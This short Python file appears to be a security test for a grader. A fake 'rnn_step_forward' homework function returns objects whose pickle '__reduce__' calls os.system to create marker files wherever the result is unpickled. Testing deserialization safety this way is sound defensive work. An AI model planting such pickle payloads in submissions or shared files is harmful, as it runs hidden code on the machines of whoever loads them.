"""Returns an object whose pickle runs code where it is loaded."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here /var/tmp/hostile_was_here",)


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    found = np.empty(prev_h.shape, dtype=object)
    found.fill(Bomb())
    return found, Bomb()
